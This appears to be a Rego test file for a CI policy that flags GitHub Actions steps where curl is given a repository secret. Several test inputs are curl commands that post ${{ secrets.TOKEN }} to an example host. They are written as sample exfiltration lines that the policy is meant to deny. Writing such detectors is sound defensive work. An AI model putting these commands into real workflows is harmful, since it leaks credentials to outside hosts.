package gapcheck.step.hands_curl_no_secrets_test

import data.gapcheck.step.hands_curl_no_secrets as policy

test_deny_argument if _denied({"run": "make\ncurl -d \"a=${{ secrets.TOKEN }}\" https://example.com"}) == {["run"]}

test_deny_continued_line if _denied({"run": "curl -X POST \\\n  -H \"a: \\\"${{secrets.TOKEN}}\" https://example.com"}) == {["run"]}

test_allow_next_line if _denied({"run": "curl https://example.com\necho ${{ secrets.TOKEN }}"}) == set()

test_allow_variable if _denied({"run": "curl -H @- https://example.com <<< \"$TOKEN\""}) == set()

test_allow_other_expressions if _denied({"run": "curl https://example.com/${{ github.sha }}"}) == set()

test_allow_missing_script if _denied({}) == set()

test_allow_others_are_no_subjects if {
	policy.subjects == {"a"} with input.step as [{"id": "a", "run": "make"}, {"id": "b"}]
}

_denied(facts) := paths if {
	subject := object.union({"id": "a", "name": "a"}, facts)
	paths := {it.path | some it in policy.deny} with input.step as [subject]
}
